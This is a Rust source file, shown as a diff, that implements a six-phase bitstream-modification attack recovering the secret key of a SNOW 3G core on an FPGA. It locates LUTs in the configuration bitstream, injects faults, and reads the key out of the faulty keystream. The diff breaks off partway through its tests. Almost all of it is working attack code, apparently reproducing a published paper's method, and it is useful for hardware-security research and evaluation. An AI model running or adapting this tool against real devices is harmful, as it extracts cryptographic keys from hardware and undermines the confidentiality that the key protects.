@@ -1,0 +1,976 @@
+//! The full key-recovery attack of Section VI.
+//!
+//! Phases (matching the paper's narrative):
+//!
+//! 1. **Candidate search** — run FINDLUT over the extracted bitstream
+//!    for every catalogue shape (the Table II data).
+//! 2. **Keystream-path identification** (Section VI-C.1) — for every
+//!    `f2` hit, replace the LUT with constant 0 and check the
+//!    "i-th keystream bit stuck at 0, all other bits unchanged"
+//!    signature; prune overlapping candidates.
+//! 3. **Feedback-path hypothesis** (Section VI-C.2) — collect hits of
+//!    the feedback shapes, discard those overlapping verified LUTs
+//!    and those whose modification does not change the keystream
+//!    (dead configuration bytes).
+//! 4. **Key-independent configuration** (Section VI-D) — locate the
+//!    LFSR load multiplexers (fractured LUT halves of the form
+//!    `c ∨ a` / `¬c ∧ a`), identify the control pin structurally,
+//!    inject `β` (load all-0) together with `α₁` (v = 0 on the
+//!    feedback path) and compare the keystream against the
+//!    key-independent reference (Table III) that the attacker
+//!    computes with the public software model.
+//! 5. **Pair disambiguation** (Section VI-D.1) — two keystream
+//!    computations decide, for every keystream-path LUT, which two
+//!    inputs feed `v`.
+//! 6. **Key extraction** (Section VI-A / VI-D.3) — inject the full
+//!    `α` into a fresh copy of the bitstream (load constants
+//!    preserved), read 16 keystream words (= LFSR state `S³³`),
+//!    reverse the LFSR 33 steps and read the key.
+
+use core::fmt;
+use std::collections::HashMap;
+
+use boolfn::TruthTable;
+
+use bitstream::{Bitstream, FRAME_BYTES};
+use snow3g::recover::{recover_key, RecoverKeyError, RecoveredSecret};
+use snow3g::{FaultSpec, FaultySnow3g, Iv, Key};
+
+use crate::candidates::{Catalogue, Role, Shape};
+use crate::edit::{CrcStrategy, EditSession};
+use crate::findlut::{find_lut, scan_halves, FindLutParams, LutHit};
+use crate::oracle::{KeystreamOracle, OracleError};
+
+/// A verified keystream-path LUT (`LUT₁[i]`).
+#[derive(Debug, Clone)]
+pub struct ZPathLut {
+    /// The bitstream location.
+    pub hit: LutHit,
+    /// The keystream bit this LUT drives.
+    pub bit: u8,
+    /// The inputs of `v`, once disambiguated (candidate pin pair).
+    pub pair: Option<(u8, u8)>,
+}
+
+/// The byte/frame lattice real LUT sites occupy, inferred from the
+/// verified keystream-path LUTs (the Section VII-B move of guessing
+/// "in which frames LUTs are located" and limiting the search). It
+/// prunes misaligned windows over real configuration data that would
+/// otherwise look like additional candidates.
+#[derive(Debug, Clone)]
+pub struct SiteLattice {
+    /// Byte parity of LUT base offsets (`None` = unconstrained).
+    parity: Option<usize>,
+    /// Frame-index modulus.
+    modulus: usize,
+    /// Frame-index residue.
+    residue: usize,
+    /// Sub-vector stride (bytes per frame).
+    d: usize,
+    /// Observed sub-vector order per column-group parity
+    /// (SLICEL/SLICEM column alternation); `None` when inconsistent.
+    order_of_group: [Option<bitstream::SubVectorOrder>; 2],
+}
+
+impl SiteLattice {
+    /// Infers the lattice from verified LUT hits. Returns a
+    /// permissive lattice when the samples are inconsistent.
+    #[must_use]
+    pub fn infer(samples: &[(usize, bitstream::SubVectorOrder)], d: usize) -> Self {
+        fn gcd(a: usize, b: usize) -> usize {
+            if b == 0 { a } else { gcd(b, a % b) }
+        }
+        let permissive =
+            Self { parity: None, modulus: 1, residue: 0, d, order_of_group: [None, None] };
+        let Some(&(first, _)) = samples.first() else { return permissive };
+        let parity = first % 2;
+        if samples.iter().any(|(l, _)| l % 2 != parity) {
+            return permissive;
+        }
+        let parity = Some(parity);
+        let f0 = first / d;
+        let base = samples.iter().fold(0usize, |g, &(l, _)| gcd(g, (l / d).abs_diff(f0)));
+        if base == 0 {
+            // All samples in one frame group: no stride information.
+            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
+        }
+        // A few samples may be misaligned windows that verified by
+        // coincidence; take the largest multiple of the raw gcd whose
+        // dominant residue class covers ≥ 80% of the samples.
+        let mut modulus = base.max(1);
+        for factor in [8usize, 4, 2] {
+            let g = base.max(1) * factor;
+            let mut counts: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
+            for &(l, _) in samples {
+                *counts.entry((l / d) % g).or_default() += 1;
+            }
+            let dominant = counts.values().copied().max().unwrap_or(0);
+            if dominant * 5 >= samples.len() * 4 {
+                modulus = g;
+                break;
+            }
+        }
+        if modulus <= 1 {
+            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
+        }
+        // Dominant residue (not necessarily the first sample's).
+        let mut counts: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
+        for &(l, _) in samples {
+            *counts.entry((l / d) % modulus).or_default() += 1;
+        }
+        let residue = counts
+            .into_iter()
+            .max_by_key(|&(r, c)| (c, std::cmp::Reverse(r)))
+            .map_or(f0 % modulus, |(r, _)| r);
+        // Order inference restricted to on-lattice samples.
+        let samples: Vec<(usize, bitstream::SubVectorOrder)> = samples
+            .iter()
+            .copied()
+            .filter(|(l, _)| (l / d) % modulus == residue)
+            .collect();
+        let samples = &samples[..];
+        // Learn the slice-type alternation by majority vote: which
+        // sub-vector order appears in even vs odd column groups. A
+        // few samples may carry the wrong order (an f2 permutation
+        // can coincidentally match the other order's decoding, and
+        // the constant-0 verification write is order-invariant), so
+        // strict consistency is too brittle.
+        let mut votes = [[0usize; 2]; 2];
+        for &(l, order) in samples {
+            let group = (l / d / modulus) % 2;
+            let o = usize::from(order == bitstream::SubVectorOrder::SliceM);
+            votes[group][o] += 1;
+        }
+        // Use a group's majority order only when it is decisive
+        // (≥ 80%): some device families do not alternate slice types
+        // at this granularity, and a wrong prediction would discard
+        // real candidates.
+        let order_of_group = votes.map(|v| {
+            let total = v[0] + v[1];
+            if total == 0 {
+                None
+            } else if v[0] * 5 >= total * 4 {
+                Some(bitstream::SubVectorOrder::SliceL)
+            } else if v[1] * 5 >= total * 4 {
+                Some(bitstream::SubVectorOrder::SliceM)
+            } else {
+                None
+            }
+        });
+        Self { parity, modulus, residue, d, order_of_group }
+    }
+
+    /// Whether a candidate byte offset lies on the lattice.
+    #[must_use]
+    pub fn accepts(&self, l: usize) -> bool {
+        self.parity.is_none_or(|p| l % 2 == p)
+            && (l / self.d) % self.modulus == self.residue
+    }
+
+    /// Whether a hit's sub-vector order matches the slice type
+    /// expected at its column.
+    #[must_use]
+    pub fn accepts_order(&self, l: usize, order: bitstream::SubVectorOrder) -> bool {
+        if self.modulus <= 1 {
+            return true;
+        }
+        let group = (l / self.d / self.modulus) % 2;
+        self.order_of_group[group].is_none_or(|o| o == order)
+    }
+
+    /// Combined position + order acceptance.
+    #[must_use]
+    pub fn accepts_hit(&self, hit: &LutHit) -> bool {
+        self.accepts(hit.l) && self.accepts_order(hit.l, hit.order)
+    }
+
+    /// The order the lattice predicts for a site, if learned.
+    #[must_use]
+    pub fn expected_order(&self, l: usize) -> Option<bitstream::SubVectorOrder> {
+        if self.modulus <= 1 {
+            return None;
+        }
+        self.order_of_group[(l / self.d / self.modulus) % 2]
+    }
+}
+
+/// A hypothesised feedback-path LUT (`LUT₂`/`LUT₃` analog).
+#[derive(Debug, Clone)]
+pub struct FeedbackLut {
+    /// Which catalogue shape matched.
+    pub shape: &'static str,
+    /// The bitstream location.
+    pub hit: LutHit,
+}
+
+/// An identified load-multiplexer half (stages `s0..s14`).
+///
+/// Which of the two pins is the load control and which is the
+/// shift-in never needs to be resolved: the `β` edit replaces
+/// `x ∨ y` by `x ∧ y`, which loads 0 in the first cycle (the shift-in
+/// is still at its power-up value 0) and then holds 0 — exactly the
+/// behaviour an all-zero LFSR needs in the key-independent
+/// configuration, under either pin assignment.
+#[derive(Debug, Clone)]
+pub struct LoadMuxHalf {
+    /// The bitstream location of the hosting LUT.
+    pub hit: LutHit,
+    /// Which half (0 = O5, 1 = O6).
+    pub half: u8,
+    /// The two support pins of the `x ∨ y` half.
+    pub pins: (u8, u8),
+}
+
+/// The attack's findings and effort metrics.
+#[derive(Debug, Clone)]
+pub struct AttackReport {
+    /// Raw FINDLUT match counts per catalogue shape (the Table II
+    /// analog).
+    pub candidate_counts: Vec<(&'static str, usize)>,
+    /// Verified keystream-path LUTs.
+    pub z_luts: Vec<ZPathLut>,
+    /// Hypothesised feedback-path LUTs (validated jointly by the
+    /// key-independent keystream).
+    pub feedback_luts: Vec<FeedbackLut>,
+    /// γ=1 load-mux halves that received the `β` edit.
+    pub beta_edits: usize,
+    /// Candidates discarded because editing them did not change the
+    /// keystream (dead configuration bytes / false positives).
+    pub dead_candidates: usize,
+    /// The key-independent keystream observed (must equal Table III).
+    pub key_independent_keystream: Vec<u32>,
+    /// The final faulty keystream (Table IV; equals LFSR state S³³).
+    pub alpha_keystream: Vec<u32>,
+    /// The final α-faulted bitstream that produced it (diff against
+    /// the golden bitstream to see exactly which bytes the attack
+    /// rewrote).
+    pub alpha_bitstream: Bitstream,
+    /// The recovered secrets (Table V and the key).
+    pub recovered: RecoveredSecret,
+    /// Number of device configurations the attack performed.
+    pub oracle_loads: usize,
+}
+
+/// An error aborting the attack.
+#[derive(Debug)]
+pub enum AttackError {
+    /// The bitstream has no FDRI payload to search.
+    NoFdriPayload,
+    /// The device refused a bitstream the attack expected to load.
+    Oracle(OracleError),
+    /// Fewer than 32 keystream-path LUTs were verified.
+    ZPathIncomplete {
+        /// Bits covered by verified LUTs.
+        bits_found: u32,
+    },
+    /// No combination of load-mux hypotheses produced the
+    /// key-independent keystream.
+    KeyIndependentMismatch,
+    /// A keystream bit's XOR pair could not be resolved.
+    PairUnresolved {
+        /// The offending keystream bit.
+        bit: u8,
+    },
+    /// LFSR reversal failed on the final faulty keystream.
+    Recover(RecoverKeyError),
+}
+
+impl fmt::Display for AttackError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            AttackError::NoFdriPayload => write!(f, "bitstream has no FDRI payload"),
+            AttackError::Oracle(e) => write!(f, "oracle failure: {e}"),
+            AttackError::ZPathIncomplete { bits_found } => {
+                write!(f, "only {bits_found} keystream bits covered by verified LUTs")
+            }
+            AttackError::KeyIndependentMismatch => {
+                write!(f, "no hypothesis produced the key-independent keystream")
+            }
+            AttackError::PairUnresolved { bit } => {
+                write!(f, "could not resolve the v input pair for keystream bit {bit}")
+            }
+            AttackError::Recover(e) => write!(f, "key recovery failed: {e}"),
+        }
+    }
+}
+
+impl std::error::Error for AttackError {}
+
+impl From<OracleError> for AttackError {
+    fn from(e: OracleError) -> Self {
+        AttackError::Oracle(e)
+    }
+}
+
+impl From<RecoverKeyError> for AttackError {
+    fn from(e: RecoverKeyError) -> Self {
+        AttackError::Recover(e)
+    }
+}
+
+/// The attack driver.
+pub struct Attack<'a> {
+    oracle: &'a dyn KeystreamOracle,
+    golden: Bitstream,
+    payload: Vec<u8>,
+    d: usize,
+    words: usize,
+    catalogue: Catalogue,
+    loads: usize,
+    golden_keystream: Vec<u32>,
+}
+
+impl fmt::Debug for Attack<'_> {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "Attack(payload: {} bytes, d: {}, w: {}, loads so far: {})",
+            self.payload.len(),
+            self.d,
+            self.words,
+            self.loads
+        )
+    }
+}
+
+impl<'a> Attack<'a> {
+    /// Prepares the attack against a device and its extracted
+    /// bitstream. `d` defaults to one frame (the device family
+    /// parameter of Section V-A).
+    ///
+    /// # Errors
+    ///
+    /// Fails if the bitstream has no FDRI payload or the device
+    /// rejects the golden bitstream.
+    pub fn new(oracle: &'a dyn KeystreamOracle, golden: Bitstream) -> Result<Self, AttackError> {
+        Self::with_stride(oracle, golden, FRAME_BYTES)
+    }
+
+    /// Like [`Attack::new`] but for a device family with a different
+    /// sub-vector stride `d` (the paper's tool used `d = 101` bytes).
+    ///
+    /// # Errors
+    ///
+    /// Same as [`Attack::new`].
+    pub fn with_stride(
+        oracle: &'a dyn KeystreamOracle,
+        golden: Bitstream,
+        d: usize,
+    ) -> Result<Self, AttackError> {
+        let range = golden.fdri_data_range().ok_or(AttackError::NoFdriPayload)?;
+        let payload = golden.as_bytes()[range].to_vec();
+        let mut attack = Self {
+            oracle,
+            golden,
+            payload,
+            d,
+            words: 16,
+            catalogue: Catalogue::full(),
+            loads: 0,
+            golden_keystream: Vec::new(),
+        };
+        attack.golden_keystream = attack.run_oracle(&attack.golden.clone())?;
+        Ok(attack)
+    }
+
+    /// Number of keystream words used per observation (the paper's
+    /// `w`; default 16).
+    #[must_use]
+    pub fn words(&self) -> usize {
+        self.words
+    }
+
+    /// The golden bitstream under attack.
+    #[must_use]
+    pub fn golden(&self) -> &Bitstream {
+        &self.golden
+    }
+
+    fn run_oracle(&mut self, bs: &Bitstream) -> Result<Vec<u32>, AttackError> {
+        self.loads += 1;
+        Ok(self.oracle.keystream(bs, self.words)?)
+    }
+
+    /// Re-expresses a hit under the sub-vector order the lattice
+    /// predicts for its site, re-deriving the matching permutation.
+    /// Hits that no longer match the candidate under the corrected
+    /// order are returned unchanged.
+    fn normalize_hit(&self, hit: &LutHit, shape_truth: TruthTable, lattice: &SiteLattice) -> LutHit {
+        let Some(order) = lattice.expected_order(hit.l) else { return hit.clone() };
+        if order == hit.order {
+            return hit.clone();
+        }
+        let corrected = crate::findlut::rematch_at(&self.payload, hit.l, self.d, order, shape_truth);
+        corrected.unwrap_or_else(|| hit.clone())
+    }
+
+    /// Runs the complete attack.
+    ///
+    /// # Errors
+    ///
+    /// See [`AttackError`].
+    pub fn run(mut self) -> Result<AttackReport, AttackError> {
+        // Phase 1: candidate search (Table II data).
+        let params = FindLutParams::k6(self.d);
+        let mut hits_by_shape: HashMap<&'static str, Vec<LutHit>> = HashMap::new();
+        let mut candidate_counts = Vec::new();
+        for shape in &self.catalogue.shapes.clone() {
+            let hits = find_lut(&self.payload, shape.truth, &params);
+            candidate_counts.push((shape.name, hits.len()));
+            hits_by_shape.insert(shape.name, hits);
+        }
+
+        // Phase 2: verify the keystream path. A misaligned window
+        // over two real LUTs can occasionally verify *instead of* a
+        // true site (the true site is then skipped by the overlap
+        // rule), so verification runs twice: the first pass's
+        // positions reveal the site lattice (Section VII-B: "guess in
+        // which frames LUTs are located ... and limit the search"),
+        // and the second pass re-verifies with off-lattice candidates
+        // removed.
+        let f2_hits = hits_by_shape.remove("f2").unwrap_or_default();
+        let mut dead = 0usize;
+        let (z_pass1, z_dead) = self.verify_z_path(f2_hits.clone())?;
+        dead += z_dead;
+        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
+            z_pass1.iter().map(|z| (z.hit.l, z.hit.order)).collect();
+        let lattice = SiteLattice::infer(&samples, self.d);
+        let on_lattice: Vec<LutHit> =
+            f2_hits.into_iter().filter(|h| lattice.accepts(h.l)).collect();
+        let (z_luts, _) = self.verify_z_path(on_lattice)?;
+        let bits_found = z_luts.iter().map(|z| 1u32 << z.bit).fold(0u32, |a, b| a | b);
+        if bits_found != u32::MAX {
+            return Err(AttackError::ZPathIncomplete { bits_found: bits_found.count_ones() });
+        }
+        if std::env::var_os("BITMOD_DEBUG").is_some() {
+            eprintln!("[lattice] {lattice:?}");
+            eprintln!("[lattice] sample frames: {:?}",
+                samples.iter().map(|(l, o)| (l / self.d, *o)).collect::<Vec<_>>());
+        }
+
+        // Normalize verified hits to the lattice-predicted orders so
+        // that subsequent permuted writes land on the right bytes.
+        let f2_truth = self.catalogue.shape("f2").expect("f2").truth;
+        let z_luts: Vec<ZPathLut> = z_luts
+            .into_iter()
+            .map(|z| ZPathLut { hit: self.normalize_hit(&z.hit, f2_truth, &lattice), ..z })
+            .collect();
+
+        // Phase 3: feedback-path hypothesis.
+        let (fb_candidates, fb_dead) =
+            self.feedback_hypothesis(&z_luts, &hits_by_shape, &lattice)?;
+        dead += fb_dead;
+
+        // Phase 4: key-independent configuration (selects the true
+        // 32-LUT feedback subset if there are surplus candidates).
+        let m1b_hits: Vec<LutHit> = hits_by_shape
+            .get("m1b")
+            .cloned()
+            .unwrap_or_default()
+            .into_iter()
+            .filter(|h| lattice.accepts_hit(h))
+            .collect();
+        let (feedback_luts, keyindep_bs, keyindep_z, beta_edits, mux_dead) =
+            self.key_independent(&z_luts, fb_candidates, &m1b_hits, &lattice)?;
+        dead += mux_dead;
+
+        // Phase 5: pair disambiguation (two keystream computations).
+        let z_luts = self.disambiguate_pairs(z_luts, &keyindep_bs)?;
+
+        // Phase 6: inject α into a fresh copy and extract the key.
+        let (alpha_bitstream, alpha_keystream) = self.extract(&z_luts, &feedback_luts)?;
+        let recovered = recover_key(&alpha_keystream)?;
+
+        Ok(AttackReport {
+            candidate_counts,
+            z_luts,
+            feedback_luts,
+            beta_edits,
+            dead_candidates: dead,
+            key_independent_keystream: keyindep_z,
+            alpha_keystream,
+            alpha_bitstream,
+            recovered,
+            oracle_loads: self.loads,
+        })
+    }
+
+    /// Phase 2: Section VI-C.1 — verify `f2` candidates by the
+    /// stuck-bit signature.
+    fn verify_z_path(
+        &mut self,
+        candidates: Vec<LutHit>,
+    ) -> Result<(Vec<ZPathLut>, usize), AttackError> {
+        let mut verified: Vec<ZPathLut> = Vec::new();
+        let mut dead = 0usize;
+        'cand: for hit in candidates {
+            // Two valid LUTs cannot overlap in a bitstream
+            // (Section VI-C): skip candidates clashing with verified
+            // ones.
+            for z in &verified {
+                if hit.location(self.d).overlaps(&z.hit.location(self.d)) {
+                    continue 'cand;
+                }
+            }
+            let mut session = EditSession::new(&self.golden, self.d);
+            session.write_function(&hit, TruthTable::zero(6));
+            let bs = session.finish(CrcStrategy::Recompute);
+            let z = self.run_oracle(&bs)?;
+            match stuck_bit(&z, &self.golden_keystream) {
+                Some(bit) => verified.push(ZPathLut { hit, bit, pair: None }),
+                None => {
+                    if z == self.golden_keystream {
+                        dead += 1;
+                    }
+                }
+            }
+        }
+        Ok((verified, dead))
+    }
+
+    /// Phase 3: collect feedback-shape hits, pruning overlaps and
+    /// dead bytes.
+    fn feedback_hypothesis(
+        &mut self,
+        z_luts: &[ZPathLut],
+        hits_by_shape: &HashMap<&'static str, Vec<LutHit>>,
+        lattice: &SiteLattice,
+    ) -> Result<(Vec<FeedbackLut>, usize), AttackError> {
+        let shapes: Vec<Shape> = self
+            .catalogue
+            .shapes
+            .iter()
+            .filter(|s| s.role == Role::Feedback)
+            .cloned()
+            .collect();
+        let mut out: Vec<FeedbackLut> = Vec::new();
+        let mut dead = 0usize;
+        for shape in shapes {
+            let name = shape.name;
+            for hit in hits_by_shape.get(name).cloned().unwrap_or_default() {
+                if !lattice.accepts_hit(&hit) {
+                    continue;
+                }
+                let loc = hit.location(self.d);
+                if z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
+                    || out.iter().any(|f| loc.overlaps(&f.hit.location(self.d)))
+                {
+                    continue;
+                }
+                // Dead-byte pruning: a modification that does not
+                // change the keystream hit filler bits.
+                let mut session = EditSession::new(&self.golden, self.d);
+                session.write_function(&hit, TruthTable::zero(6));
+                let bs = session.finish(CrcStrategy::Recompute);
+                let z = self.run_oracle(&bs)?;
+                if z == self.golden_keystream {
+                    dead += 1;
+                    continue;
+                }
+                out.push(FeedbackLut { shape: name, hit });
+            }
+        }
+        Ok((out, dead))
+    }
+
+    /// Phase 4: Section VI-D — β + α₁, validated against the
+    /// key-independent keystream computed with the public software
+    /// model. When more feedback candidates than the 32 required by
+    /// SNOW 3G's word width survive pruning, the true subset is
+    /// selected by hypothesis testing — the paper's Section VI-C.2
+    /// move ("the sum of matches ... is 32 ... we make a
+    /// hypothesis").
+    #[allow(clippy::type_complexity)]
+    fn key_independent(
+        &mut self,
+        z_luts: &[ZPathLut],
+        fb_candidates: Vec<FeedbackLut>,
+        m1b_hits: &[LutHit],
+        lattice: &SiteLattice,
+    ) -> Result<(Vec<FeedbackLut>, Bitstream, Vec<u32>, usize, usize), AttackError> {
+        // Expected keystream: the attacker simulates the public
+        // algorithm with an all-0 LFSR and the FSM disconnected
+        // during initialization (Section VI-D, Table III).
+        let expected = FaultySnow3g::new(Key([0; 4]), Iv([0; 4]), FaultSpec::key_independent())
+            .keystream(self.words);
+
+        // Locate the stage-s0..s14 load-mux halves.
+        let (halves, mux_dead) = self.find_load_mux_halves(z_luts, &fb_candidates, lattice)?;
+        if std::env::var_os("BITMOD_DEBUG").is_some() {
+            eprintln!(
+                "[keyindep] fb_candidates={} halves={} mux_dead={} m1b_hits={}",
+                fb_candidates.len(),
+                halves.len(),
+                mux_dead,
+                m1b_hits.len()
+            );
+        }
+
+        let build = |attack: &Attack<'_>, feedback: &[FeedbackLut]| {
+            let mut session = EditSession::new(&attack.golden, attack.d);
+            for f in feedback {
+                let shape = attack.catalogue.shape(f.shape).expect("catalogue shape");
+                if let Some(ki) = shape.keyindep {
+                    session.write_function(&f.hit, ki);
+                }
+            }
+            // s15 outer-byte γ=1 load-mux covers.
+            let m1b = attack.catalogue.shape("m1b").expect("m1b shape");
+            for hit in m1b_hits {
+                session.write_function(hit, m1b.keyindep.expect("m1b has keyindep"));
+            }
+            // Stage 0..14 γ=1 halves: (x ∨ y) → (x ∧ y), the role-free
+            // load-0 form (see [`LoadMuxHalf`]).
+            for h in &halves {
+                let (x, y) = h.pins;
+                let edit = TruthTable::var(5, x).and(TruthTable::var(5, y));
+                session.write_half(&h.hit, h.half, edit);
+            }
+            session.finish(CrcStrategy::Recompute)
+        };
+
+        // SNOW 3G has a 32-bit word: exactly 32 feedback LUTs carry
+        // v. Enumerate which surplus candidates to drop (usually
+        // none) — the paper's Section VI-C.2 hypothesis over counts
+        // summing to 32.
+        let n = fb_candidates.len();
+        if n < 32 {
+            return Err(AttackError::KeyIndependentMismatch);
+        }
+        let drop_count = n - 32;
+        let mut drop_sets = subsets(n, drop_count);
+        if drop_sets.len() > 20_000 {
+            drop_sets.truncate(20_000);
+        }
+        for drops in &drop_sets {
+            let feedback: Vec<FeedbackLut> = fb_candidates
+                .iter()
+                .enumerate()
+                .filter(|(i, _)| !drops.contains(i))
+                .map(|(_, f)| f.clone())
+                .collect();
+            let bs = build(self, &feedback);
+            let z = self.run_oracle(&bs)?;
+            if z == expected {
+                return Ok((feedback, bs, z, halves.len(), mux_dead));
+            }
+            if std::env::var_os("BITMOD_DEBUG").is_some() {
+                eprintln!("[keyindep] drops={drops:?} got {:08x?}", &z[..2]);
+            }
+        }
+        Err(AttackError::KeyIndependentMismatch)
+    }
+
+    /// Finds the γ=1 load-mux halves of stages `s0..s14`.
+    fn find_load_mux_halves(
+        &mut self,
+        z_luts: &[ZPathLut],
+        feedback: &[FeedbackLut],
+        lattice: &SiteLattice,
+    ) -> Result<(Vec<LoadMuxHalf>, usize), AttackError> {
+        // Scan for LUTs with an OR-of-two-pins half, on the site
+        // lattice learned from the verified LUTs.
+        let raw = scan_halves(&self.payload, self.d, 0..self.payload.len(), |o5, o6| {
+            or_pair(o5).is_some() || or_pair(o6).is_some()
+        });
+        let mut out: Vec<LoadMuxHalf> = Vec::new();
+        let mut dead = 0usize;
+        'hit: for hit in raw {
+            if !lattice.accepts_hit(&hit) {
+                continue;
+            }
+            let loc = hit.location(self.d);
+            if z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
+                || feedback.iter().any(|f| loc.overlaps(&f.hit.location(self.d)))
+            {
+                continue;
+            }
+            let halves = [hit.init.o5(), hit.init.o6_fractured()];
+            for half in 0..2u8 {
+                let Some((p, q)) = or_pair(halves[half as usize]) else { continue };
+                // Skip duplicate views of bytes already claimed: the
+                // same physical half can match under both sub-vector
+                // orders when the lattice could not learn the slice
+                // alternation; one edit suffices (both views write
+                // the same reachable-row semantics).
+                if out.iter().any(|h| {
+                    h.half == half && h.hit.l == hit.l
+                }) {
+                    continue;
+                }
+                // Null test: a genuine load mux is insensitive to
+                // replacing (x ∨ y) by (x ⊕ y), because the control
+                // and the shift-in are never 1 together on a real
+                // device (c_load is high only in the first cycle,
+                // when every shift-in is still at its power-up
+                // value 0).
+                let mut session = EditSession::new(&self.golden, self.d);
+                let xor = TruthTable::var(5, p).xor(TruthTable::var(5, q));
+                session.write_half(&hit, half, xor);
+                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
+                if z != self.golden_keystream {
+                    continue; // a real OR gate elsewhere in the design
+                }
+                // Liveness: forcing the half to 0 must disturb the
+                // keystream, otherwise these are dead filler bytes.
+                let mut session = EditSession::new(&self.golden, self.d);
+                session.write_half(&hit, half, TruthTable::zero(5));
+                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
+                if z == self.golden_keystream {
+                    dead += 1;
+                    continue 'hit;
+                }
+                out.push(LoadMuxHalf { hit: hit.clone(), half, pins: (p, q) });
+            }
+        }
+        Ok((out, dead))
+    }
+
+    /// Phase 5: Section VI-D.1 — two keystream computations resolve
+    /// every keystream-path LUT's `v` input pair.
+    fn disambiguate_pairs(
+        &mut self,
+        mut z_luts: Vec<ZPathLut>,
+        keyindep: &Bitstream,
+    ) -> Result<Vec<ZPathLut>, AttackError> {
+        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
+        let mut stuck = Vec::new();
+        for variant in &f2.variants[..2] {
+            let mut session = EditSession::new(keyindep, self.d);
+            for z in &z_luts {
+                session.write_function(&z.hit, variant.faulted);
+            }
+            let zs = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
+            let mut mask = u32::MAX;
+            for w in &zs {
+                mask &= !w;
+            }
+            stuck.push(mask); // bit set ⇒ that keystream bit was all-0
+        }
+        for z in &mut z_luts {
+            let bit = z.bit;
+            let pair = if (stuck[0] >> bit) & 1 == 1 {
+                f2.variants[0].pair
+            } else if (stuck[1] >> bit) & 1 == 1 {
+                f2.variants[1].pair
+            } else {
+                f2.variants[2].pair
+            };
+            z.pair = Some(pair);
+        }
+        Ok(z_luts)
+    }
+
+    /// Phase 6: inject the full `α` (keystream-path `α₂` with the
+    /// resolved pairs + feedback-path `α₁`) into a fresh copy of the
+    /// golden bitstream, and read the faulty keystream.
+    fn extract(
+        &mut self,
+        z_luts: &[ZPathLut],
+        feedback: &[FeedbackLut],
+    ) -> Result<(Bitstream, Vec<u32>), AttackError> {
+        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
+        let mut session = EditSession::new(&self.golden, self.d);
+        for z in z_luts {
+            let pair = z.pair.ok_or(AttackError::PairUnresolved { bit: z.bit })?;
+            let variant = f2
+                .variants
+                .iter()
+                .find(|v| v.pair == pair)
+                .ok_or(AttackError::PairUnresolved { bit: z.bit })?;
+            session.write_function(&z.hit, variant.faulted);
+        }
+        for f in feedback {
+            let shape = self.catalogue.shape(f.shape).expect("catalogue shape");
+            if let Some(alpha) = shape.alpha {
+                session.write_function(&f.hit, alpha);
+            }
+        }
+        let bs = session.finish(CrcStrategy::Recompute);
+        let z = self.run_oracle(&bs)?;
+        Ok((bs, z))
+    }
+}
+
+/// Enumerates all `k`-element subsets of `0..n` (ascending index
+/// sets), smallest-lexicographic first.
+fn subsets(n: usize, k: usize) -> Vec<Vec<usize>> {
+    let mut out = Vec::new();
+    let mut cur: Vec<usize> = (0..k).collect();
+    if k == 0 {
+        return vec![Vec::new()];
+    }
+    if k > n {
+        return out;
+    }
+    loop {
+        out.push(cur.clone());
+        // Advance to the next combination.
+        let mut i = k;
+        loop {
+            if i == 0 {
+                return out;
+            }
+            i -= 1;
+            if cur[i] != i + n - k {
+                break;
+            }
+            if i == 0 {
+                return out;
+            }
+        }
+        cur[i] += 1;
+        for j in i + 1..k {
+            cur[j] = cur[j - 1] + 1;
+        }
+    }
+}
+
+/// Checks the Section VI-C.1 signature: exactly one keystream bit is
+/// stuck at 0 while every other bit matches the golden keystream.
+/// Returns the stuck bit.
+#[must_use]
+pub fn stuck_bit(z: &[u32], golden: &[u32]) -> Option<u8> {
+    if z.len() != golden.len() || z.is_empty() {
+        return None;
+    }
+    let mut all_zero = u32::MAX;
+    let mut differs = 0u32;
+    for (a, b) in z.iter().zip(golden) {
+        all_zero &= !a;
+        differs |= a ^ b;
+    }
+    // The stuck bit must be all-zero now, must have been live in the
+    // golden keystream, and must be the only differing bit.
+    let golden_live = {
+        let mut live = 0u32;
+        for w in golden {
+            live |= w;
+        }
+        live
+    };
+    let candidates = all_zero & golden_live & differs;
+    if candidates.count_ones() == 1 && differs == candidates {
+        Some(candidates.trailing_zeros() as u8)
+    } else {
+        None
+    }
+}
+
+/// Recognises a 5-variable half that is exactly `x ∨ y` for a pin
+/// pair `(x, y)`; returns the (1-based) pair.
+fn or_pair(t: TruthTable) -> Option<(u8, u8)> {
+    let support = t.support();
+    if support.count_ones() != 2 {
+        return None;
+    }
+    let x = support.trailing_zeros() as u8 + 1;
+    let y = 8 - support.leading_zeros() as u8;
+    let want = TruthTable::var(5, x).or(TruthTable::var(5, y));
+    (t == want).then_some((x, y))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn stuck_bit_detects_single_dead_bit() {
+        let golden = vec![0xFFFF_FFFFu32; 4];
+        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7)).collect();
+        assert_eq!(stuck_bit(&z, &golden), Some(7));
+    }
+
+    #[test]
+    fn stuck_bit_rejects_multiple_changes() {
+        let golden = vec![0xFFFF_FFFFu32; 4];
+        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7) & !(1 << 9)).collect();
+        assert_eq!(stuck_bit(&z, &golden), None);
+    }
+
+    #[test]
+    fn stuck_bit_rejects_unchanged() {
+        let golden = vec![0x1234_5678u32; 4];
+        assert_eq!(stuck_bit(&golden, &golden), None);
+    }
+
+    #[test]
+    fn stuck_bit_requires_live_golden_bit() {
+        // If the golden keystream never had that bit set, it carries
+        // no information.
+        let golden = vec![0xFFFF_FFFEu32; 4];
+        let z = golden.clone();
+        assert_eq!(stuck_bit(&z, &golden), None);
+    }
+
+    #[test]
+    fn lattice_inference_and_acceptance() {
